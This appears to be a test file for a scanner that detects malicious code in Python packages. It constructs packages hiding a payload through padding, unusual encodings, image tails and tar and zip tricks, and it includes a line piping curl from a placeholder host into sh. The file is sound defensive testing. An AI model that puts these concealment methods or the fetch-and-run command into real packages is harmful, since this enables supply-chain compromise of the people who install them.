/** Payloads where a reader might not look: in files that are no Python, behind padding, in odd archives and encodings. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import { forgeSdist, forgeTarGz, forgeWheel, forgeZip, tarOf, zipOf } from '../forge/forge.ts';
import { HARMLESS, PACKAGE, PAYLOAD, SETUP, scan, sdist, seen, told } from './payload.ts';

type Place = (code: string) => Uint8Array | readonly [Uint8Array, string];

const SHELL = "curl -s http://host.invalid/x | sh\n";
const METADATA = 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n';
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d494844520000000100000001080200000090775 3de'.replace(' ', ''), 'hex'), Buffer.from('0000000049454e44ae426082', 'hex')]);

function shellOf(code: string): string {
  return code === PAYLOAD ? SHELL : 'echo made by the build\n';
}

function utf16(text: string, mark: boolean): Uint8Array {
  return Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le');
}

function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (letter) => String.fromCharCode(letter.charCodeAt(0) + ((letter.charCodeAt(0) & 31) <= 13 ? 13 : -13)));
}

/** Each puts code somewhere from where installing the package runs it. */
const PLACES: Readonly<Record<string, Place>> = {
  'a quote that is never closed': (code) => sdist(`${code}${SETUP}x = 'never closed\n`),
  'an opened text before it': (code) => sdist(`x = 'opened\n${code}${SETUP}`),
  'a comment opener before it': (code) => sdist(`x = 1 /*\n${code}${SETUP}`),
  'an unclosed parenthesis before it': (code) => sdist(`x = (1,\n${code}${SETUP}`),
  'a .dat file that setup.py executes': (code) => sdist(`exec(open('demo/table.dat').read())\n${SETUP}`, { 'demo/table.dat': code }),
  'a .txt file that setup.py decodes': (code) => sdist(`import base64\nexec(base64.b64decode(open('notes.txt').read()))\n${SETUP}`, { 'notes.txt': Buffer.from(code).toString('base64') }),
  'a binary file that setup.py inflates': (code) => sdist(`import zlib\nexec(zlib.decompress(open('demo/model.bin', 'rb').read()))\n${SETUP}`, { 'demo/model.bin': deflateSync(code) }),
  'an image that is code': (code) => sdist(`exec(open('demo/logo.png').read())\n${SETUP}`, { 'demo/logo.png': code }),
  'the end of an image': (code) => sdist(`data = open('demo/logo.png', 'rb').read()\nexec(data.split(b'IEND')[1][4:])\n${SETUP}`, { 'demo/logo.png': Buffer.concat([PNG, Buffer.from(code)]) }),
  'the end of an image, from an offset': (code) => sdist(`f = open('demo/logo.png', 'rb')\nf.seek(${PNG.length})\nexec(f.read())\n${SETUP}`, { 'demo/logo.png': Buffer.concat([PNG, Buffer.from(code)]) }),
  'a file without an ending': (code) => sdist(`import os\nos.system('sh ./configure')\n${SETUP}`, { configure: shellOf(code) }),
  'a shell script': (code) => sdist(`import subprocess\nsubprocess.call(['bash', 'scripts/build.sh'])\n${SETUP}`, { 'scripts/build.sh': `#!/bin/bash\n${shellOf(code)}` }),
  'a script run by its path': (code) => sdist(`import os\nos.system('chmod +x ./scripts/build && ./scripts/build')\n${SETUP}`, { 'scripts/build': `#!/bin/sh\n${shellOf(code)}` }),
  'a test that setup.py imports': (code) => sdist(`import tests.test_demo\n${SETUP}`, { 'tests/__init__.py': '', 'tests/test_demo.py': code }),
  'a module run by runpy': (code) => sdist(`import runpy\nrunpy.run_path('tools/make.py')\n${SETUP}`, { 'tools/make.py': code }),
  'a module run by a child': (code) => sdist(`import subprocess, sys\nsubprocess.call([sys.executable, 'tools/make.py'])\n${SETUP}`, { 'tools/make.py': code }),
  '5 MB of padding': (code) => sdist(`${'#'.repeat(79)}\n`.repeat(65_000) + code + SETUP),
  '5 MB of spaces on the line': (code) => sdist(`x = 1;${' '.repeat(5_000_000)}${code.replaceAll('\n', ';')}\n${SETUP}`),
  '5 MB of a text': (code) => sdist(`x = '${'A'.repeat(5_000_000)}'\n${code}${SETUP}`),
  '300,000 lines of code': (code) => sdist('x = 1\n'.repeat(300_000) + code + SETUP),
  '40 MB of blank lines': (code) => sdist('\n'.repeat(40_000_000) + code + SETUP),
  'UTF-16 with a mark': (code) => sdist(utf16(code + SETUP, true)),
  'UTF-16 without a mark': (code) => sdist(utf16(code + SETUP, false)),
  'a rot13 cookie': (code) => sdist(`# -*- coding: rot13 -*-\n${rot13(code + SETUP)}`),
  'a UTF-7 cookie': (code) => sdist(`# coding: utf-7\n${[...code + SETUP].map((char) => (/[\w\n ]/.test(char) ? char : `+${Buffer.from([0, char.charCodeAt(0)]).toString('base64').replace(/=+$/, '')}-`)).join('')}`),
  'a cookie of escapes': (code) => sdist(`# coding: unicode_escape\n${[...code + SETUP].map((char) => (char === '\n' ? char : `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`)).join('')}`),
  'carriage returns': (code) => sdist((code + SETUP).replaceAll('\n', '\r')),
  'form feeds and null bytes': (code) => sdist(`\f\n${code}${SETUP}\0\n`),
  'a member listed twice, harmless first': (code) => gzipSync(tarOf([{ name: 'demo-1.0/PKG-INFO', content: METADATA }, { name: 'demo-1.0/setup.py', content: SETUP }, { name: 'demo-1.0/setup.py', content: code + SETUP }])),
  'a member listed twice, harmless last': (code) => gzipSync(tarOf([{ name: 'demo-1.0/PKG-INFO', content: METADATA }, { name: 'demo-1.0/setup.py', content: code + SETUP }, { name: 'demo-1.0/setup.py', content: SETUP }])),
  'a dot in the path': (code) => forgeTarGz({ 'demo-1.0/PKG-INFO': METADATA, './demo-1.0/./setup.py': code + SETUP }),
  'an absolute path': (code) => forgeTarGz({ 'demo-1.0/PKG-INFO': METADATA, '/demo-1.0/setup.py': code + SETUP }),
  'a climbing path': (code) => forgeTarGz({ 'demo-1.0/PKG-INFO': METADATA, 'demo-1.0/a/../setup.py': code + SETUP }),
  'a link to the code': (code) => gzipSync(tarOf([{ name: 'demo-1.0/PKG-INFO', content: METADATA }, { name: 'demo-1.0/notes.txt', content: code + SETUP }, { name: 'demo-1.0/setup.py', type: '2', link: 'notes.txt' }])),
  'a hard link to the code': (code) => gzipSync(tarOf([{ name: 'demo-1.0/PKG-INFO', content: METADATA }, { name: 'demo-1.0/notes.txt', content: code + SETUP }, { name: 'demo-1.0/setup.py', type: '1', link: 'demo-1.0/notes.txt' }])),
  'a .pth file in a wheel': (code) => [forgeWheel('demo', '1.0', { ...PACKAGE, 'demo.pth': `import base64; exec(base64.b64decode('${Buffer.from(code).toString('base64')}'))\n` }), 'demo-1.0-py3-none-any.whl'],
  'a wheel whose RECORD lies': (code) => [forgeWheel('demo', '1.0', { 'demo/__init__.py': code, 'demo-1.0.dist-info/RECORD': 'demo/other.py,sha256=AAAA,1\n' }), 'demo-1.0-py3-none-any.whl'],
  'a zip with data before it': (code) => [forgeZip({ 'demo/__init__.py': code, 'demo-1.0.dist-info/METADATA': METADATA, 'demo-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\n' }, { before: Buffer.from('#!/bin/sh\nexit\n') }), 'demo-1.0-py3-none-any.whl'],
  'a name that only the directory tells': (code) => [zipOf([{ name: 'demo/__init__.py', content: code, local: { name: 'demo/notes.txt' } }, { name: 'demo-1.0.dist-info/METADATA', content: METADATA }]), 'demo-1.0-py3-none-any.whl'],
  'a tar that is also a zip': (code) => Buffer.concat([tarOf([{ name: 'demo-1.0/PKG-INFO', content: METADATA }, { name: 'demo-1.0/setup.py', content: SETUP }]), forgeZip({ 'demo-1.0/PKG-INFO': METADATA, 'demo-1.0/setup.py': code + SETUP })]),
  'an archive in the archive': (code) => forgeSdist('demo', '1.0', { 'setup.py': `import zipfile, os\nzipfile.ZipFile('demo/data.zip').extractall('.')\nos.system('python run.py')\n${SETUP}`, 'demo/data.zip': forgeZip({ 'run.py': code }) }),
  '10,000 small files': (code) => sdist(`import demo.m9999\n${SETUP}`, Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`demo/m${i}.py`, i === 9_999 ? code : `x = ${i}\n`]))),
};

/** Places that are odd in themselves: an innocent package doesn't look like that. */
const ODD = /by its path|quote|opened|opener|unclosed|twice|absolute|climbing|RECORD|before it|directory tells|also a zip|\.pth|null|link|offset|end of an image|an image|decodes|inflates|UTF-7|rot13|escapes|spaces|archive in/;

for (const [what, place] of Object.entries(PLACES)) {
  test(`payload in ${what}`, () => {
    const made = place(PAYLOAD);
    const [bytes, name] = made instanceof Uint8Array ? [made, 'demo-1.0.tar.gz'] : made;
    const report = scan(bytes, name);
    assert.ok(report.verdict !== 'clean' && (seen(report).some((rule) => !/ run$| unreachable$/.test(rule)) || report.verdict === 'unknown'), told(report));
  });

  test(`harmless code in ${what}`, () => {
    const made = place(HARMLESS);
    const [bytes, name] = made instanceof Uint8Array ? [made, 'demo-1.0.tar.gz'] : made;
    const report = scan(bytes, name);
    assert.deepEqual(seen(report), [], told(report));
    if (!ODD.test(what)) assert.equal(report.verdict, 'clean', told(report));
  });
}
